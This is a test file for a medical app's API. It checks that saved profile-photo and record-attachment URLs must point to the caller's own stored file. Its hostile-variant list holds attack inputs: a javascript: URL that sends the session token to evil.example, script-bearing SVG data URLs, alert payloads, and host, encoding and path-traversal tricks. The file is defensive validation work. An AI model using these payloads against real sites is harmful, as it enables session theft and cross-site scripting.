import { eq } from "drizzle-orm"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { createApp } from "../../server/app.ts"
import { loadConfig } from "../../server/config.ts"
import { users } from "../../server/db/schema.ts"
import { idsOf } from "../../server/routes/testing/appointmentFixtures.ts"
import { SAMPLE_BYTES, uploadedUrl } from "../../server/storage/testing/uploadedFiles.ts"
import { startTestGateway, type TestGateway } from "../../server/testing/testGateway.ts"
import { doctorFormOf } from "../support/gatewayFixtures.ts"
import { patientFormOf } from "./patientForm.ts"
import { testIds } from "../../schemas/testIds.ts"

// Issue 9, item 6: a photoUrl or a record attachment is a download URL of the caller's own file in
// our storage, `{our origin}/v0/b/{our bucket}/o/{name}?alt=media&token={its token}`, and nothing
// else: no other host (a tracker), no script or data URL, no one else's file, no guessed token.

const BUCKET = "promed-local.appspot.com"
let gw: TestGateway
type Who = { token: string; userId: string; patientId: string | null; doctorId: string | null }
let patient: Who
let patient2: Who
let doctor: Who

async function who(email: string): Promise<Who> {
  return { token: await gw.signIn(email), ...(await idsOf(gw, email)) }
}

beforeAll(async () => {
  gw = await startTestGateway()
  ;[patient, patient2, doctor] = [await who("patient@demo.sn"), await who("patient2@demo.sn"), await who("doctor@demo.sn")]
})
afterAll(async () => {
  await gw?.stop()
})

const photoOf = (w: Who) => `profile-photos/user_${w.userId}.png`
const recordOf = (w: Who, file = "abc_bilan.pdf") => `medical-records/${w.userId}/${file}`

interface Route {
  readonly label: string
  readonly as: () => Who
  readonly folder: "photo" | "record"
  readonly field: string
  readonly message: string
  readonly send: (url: string, app?: ReturnType<typeof createApp>) => Promise<{ status: number; body: any }>
}

async function request(app: ReturnType<typeof createApp> | undefined, method: string, path: string, token: string, body: unknown) {
  if (!app) return gw.api(method, path, { token, body })
  const response = await app.request(`/api/v1${path}`, {
    method,
    headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" },
    body: JSON.stringify(body),
  })
  return { status: response.status, body: await response.json() }
}

/** Both profile forms carry the photo the same way. */
const PHOTO_FIELD = { folder: "photo", field: "photoUrl", message: "validation.photoUrlInvalid" } as const

const ROUTES: ReadonlyArray<Route> = [
  {
    label: "PUT /api/v1/patients/{id} photoUrl",
    as: () => patient,
    ...PHOTO_FIELD,
    send: async (url, app) => {
      const current = (await gw.api("GET", `/patients/${patient.patientId}`, { token: patient.token })).body
      return request(app, "PUT", `/patients/${patient.patientId}`, patient.token, { ...patientFormOf(current), photoUrl: url })
    },
  },
  {
    label: "PUT /api/v1/doctors/{id} photoUrl",
    as: () => doctor,
    ...PHOTO_FIELD,
    send: async (url, app) => {
      const current = (await gw.api("GET", `/doctors/${doctor.doctorId}`)).body
      return request(app, "PUT", `/doctors/${doctor.doctorId}`, doctor.token, { ...doctorFormOf(current), photoUrl: url })
    },
  },
  {
    label: "POST /api/v1/patients/{id}/medical-records attachment",
    as: () => patient,
    folder: "record",
    field: "attachments.0.url",
    message: "validation.attachmentInvalid",
    send: (url, app) =>
      request(app, "POST", `/patients/${patient.patientId}/medical-records`, patient.token, {
        type: "LAB_RESULT",
        description: "Bilan sanguin",
        attachments: [{ id: "f1", name: "bilan.pdf", url }],
      }),
  },
]

/** The URL `good` with its parts swapped one at a time for what an attacker would try. */
function hostileVariants(good: string, ownName: string, token: string): Array<[string, string]> {
  const url = new URL(good)
  const path = url.pathname
  const query = url.search
  const encoded = encodeURIComponent(ownName)
  return [
    ["another host", `http://tracker.example${path}${query}`],
    ["another port", `http://localhost:8081${path}${query}`],
    ["another scheme (https)", `https://localhost${path}${query}`],
    ["ftp", `ftp://localhost${path}${query}`],
    ["javascript:", `javascript:fetch('//evil.example/'+sessionStorage.getItem('promed.sessionToken'))//${good}`],
    ["data:", `data:image/svg+xml;base64,${Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>").toString("base64")}`],
    ["protocol-relative", `//tracker.example${path}${query}`],
    ["a path without origin", `${path}${query}`],
    ["credentials before the host", `http://user:pass@localhost${path}${query}`],
    ["our host as user name", `http://localhost@tracker.example${path}${query}`],
    ["a backslash", `http://localhost\\@tracker.example${path}${query}`],
    ["leading white space", ` ${good}`],
    ["a line break inside", good.replace("?alt", "\n?alt")],
    ["a fragment", `${good}#x`],
    ["another bucket", good.replace(`/b/${BUCKET}/`, "/b/someone-elses.appspot.com/")],
    ["another API version", good.replace("/v0/", "/v1/")],
    ["a wrong token", `http://localhost${path}?alt=media&token=00000000-0000-4000-8000-000000000000`],
    ["no token", `http://localhost${path}?alt=media`],
    ["an empty token", `http://localhost${path}?alt=media&token=`],
    ["two tokens", `${good}&token=${token}`],
    ["no alt=media", `http://localhost${path}?token=${token}`],
    ["an extra parameter", `${good}&x=1`],
    ["a raw slash in the name", good.replace(encoded, ownName)],
    ["a double-encoded slash", good.replace(encoded, encoded.replaceAll("%2F", "%252F"))],
    ["a lower-case encoded slash", good.replace(encoded, encoded.replaceAll("%2F", "%2f"))],
    ["an encoded letter", good.replace(encoded, encoded.replace("s", "%73"))],
    ["a dot segment before the name", good.replace("/o/", "/o/x/..%2F")],
    ["an encoded NUL after the name", good.replace(encoded, `${encoded}%00`)],
    ["a bad percent escape", good.replace(encoded, `${encoded}%E0%A4%A`)],
  ]
}

describe("download URLs a user may save", () => {
  for (const route of ROUTES) {
    describe(route.label, () => {
      it("accepts a download URL of the caller's own file, exactly as the SDK gives it", async () => {
        const me = route.as()
        const good = await uploadedUrl(
          gw,
          me.token,
          route.folder === "photo" ? photoOf(me) : recordOf(me),
          route.folder === "photo" ? SAMPLE_BYTES.png : SAMPLE_BYTES.pdf,
        )
        const response = await route.send(good)
        expect(response.status, JSON.stringify(response.body)).toBeLessThan(300)
      })

      it("refuses every other address with the field's own message", async () => {
        const me = route.as()
        const ownName = route.folder === "photo" ? photoOf(me) : recordOf(me)
        const good = await uploadedUrl(gw, me.token, ownName, route.folder === "photo" ? SAMPLE_BYTES.png : SAMPLE_BYTES.pdf)
        const token = new URL(good).searchParams.get("token")!
        // Someone else's real file with its real token, and the caller's own file from the other folder.
        const theirs = await uploadedUrl(
          gw,
          patient2.token,
          route.folder === "photo" ? photoOf(patient2) : recordOf(patient2),
          route.folder === "photo" ? SAMPLE_BYTES.png : SAMPLE_BYTES.pdf,
        )
        const otherFolder =
          route.folder === "photo"
            ? await uploadedUrl(gw, me.token, recordOf(me, "not-a-photo.png"), SAMPLE_BYTES.png)
            : await uploadedUrl(gw, me.token, `profile-photos/user_${me.userId}.jpg`, SAMPLE_BYTES.jpeg)
        const missing = good.replace(
          encodeURIComponent(ownName),
          encodeURIComponent(route.folder === "photo" ? `profile-photos/user_${me.userId}.webp` : recordOf(me, "never-uploaded.pdf")),
        )
        const cases: Array<[string, string]> = [
          ...hostileVariants(good, ownName, token),
          ["someone else's file", theirs],
          ["the caller's file from the other folder", otherFolder],
          ["a file that does not exist", missing],
        ]
        for (const [what, url] of cases) {
          const response = await route.send(url)
          expect(response.status, `${what}: ${url}`).toBe(400)
          // A control character is turned away earlier, by the shared text rules, with their own message.
          const message = /[\u0000-\u001f]/.test(url) ? expect.stringMatching(/^validation\./) : route.message
          expect(response.body.fields, what).toEqual([{ name: route.field, message }])
        }
        // The real one still goes through after all that.
        expect((await route.send(good)).status).toBeLessThan(300)
      })

      it("refuses the URL of a file that was replaced or deleted (its token is gone)", async () => {
        const me = route.as()
        const name = route.folder === "photo" ? photoOf(me) : recordOf(me, "replaced.pdf")
        const bytes = route.folder === "photo" ? SAMPLE_BYTES.png : SAMPLE_BYTES.pdf
        const first = await uploadedUrl(gw, me.token, name, bytes)
        const second = await uploadedUrl(gw, me.token, name, bytes)
        const stale = await route.send(first)
        expect(stale.status).toBe(400)
        expect(stale.body.fields).toEqual([{ name: route.field, message: route.message }])
        expect((await gw.call("DELETE", `/v0/b/${BUCKET}/o/${encodeURIComponent(name)}`, { headers: { Authorization: `Firebase ${me.token}` } })).status).toBe(
          204,
        )
        expect((await route.send(second)).status).toBe(400)
      })
    })
  }
})

describe("the photo already saved", () => {
  it("may be sent back unchanged (the profile form resends it), and null clears it", async () => {
    const legacy = "https://old-cdn.example/photo.png"
    await gw.db
      .update(users)
      .set({ photoUrl: legacy })
      .where(eq(users.id, testIds.user(patient.userId)))
    const patientRoute = ROUTES[0]!
    expect((await patientRoute.send(legacy)).status).toBe(200)
    expect((await patientRoute.send("https://old-cdn.example/other.png")).status).toBe(400)
    expect((await patientRoute.send(null as unknown as string)).body.data.photoUrl).toBeNull()
  })
})

describe("with PUBLIC_ORIGIN set", () => {
  it("only that origin is ours: the request's Host header does not count", async () => {
    const app = createApp({ db: gw.db, config: { ...loadConfig({}), logRequests: false, staticDir: "/nonexistent", publicOrigin: "https://promed.example" } })
    const good = await uploadedUrl(gw, patient.token, recordOf(patient, "pinned.pdf"), SAMPLE_BYTES.pdf)
    const route = ROUTES[2]!
    const onHost = await route.send(good, app)
    expect(onHost.status).toBe(400)
    expect(onHost.body.fields).toEqual([{ name: route.field, message: route.message }])
    expect((await route.send(good.replace("http://localhost", "https://promed.example"), app)).status).toBe(201)
  })
})

describe("with a real Firebase bucket configured", () => {
  it("its download URLs of the caller's own paths are accepted, no other bucket's and nobody else's", async () => {
    const app = createApp({
      db: gw.db,
      config: { ...loadConfig({}), logRequests: false, staticDir: "/nonexistent", firebaseStorageBucket: "promed-prod.appspot.com" },
    })
    const route = ROUTES[2]!
    const firebase = (bucket: string, name: string) =>
      `https://firebasestorage.googleapis.com/v0/b/${bucket}/o/${encodeURIComponent(name)}?alt=media&token=0f6d2b1c-5a47-4c1e-9b3e-7d2f8a9c1e40`
    expect((await route.send(firebase("promed-prod.appspot.com", recordOf(patient, "scan.pdf")), app)).status).toBe(201)
    expect((await route.send(firebase("another-app.appspot.com", recordOf(patient, "scan.pdf")), app)).status).toBe(400)
    expect((await route.send(firebase("promed-prod.appspot.com", recordOf(patient2, "scan.pdf")), app)).status).toBe(400)
    // Without the setting, nothing of Firebase's is accepted.
    expect((await route.send(firebase("promed-prod.appspot.com", recordOf(patient, "scan.pdf")))).status).toBe(400)
  })
})

describe("several attachments", () => {
  it("names the first one that is not the caller's", async () => {
    const good = await uploadedUrl(gw, patient.token, recordOf(patient, "one.pdf"), SAMPLE_BYTES.pdf)
    const response = await gw.api("POST", `/patients/${patient.patientId}/medical-records`, {
      token: patient.token,
      body: {
        type: "LAB_RESULT",
        description: "Bilan",
        attachments: [
          { id: "a", name: "one.pdf", url: good },
          { id: "b", name: "x.pdf", url: "javascript:alert(1)" },
        ],
      },
    })
    expect(response.status).toBe(400)
    expect(response.body.fields).toEqual([{ name: "attachments.1.url", message: "validation.attachmentInvalid" }])
  })
})
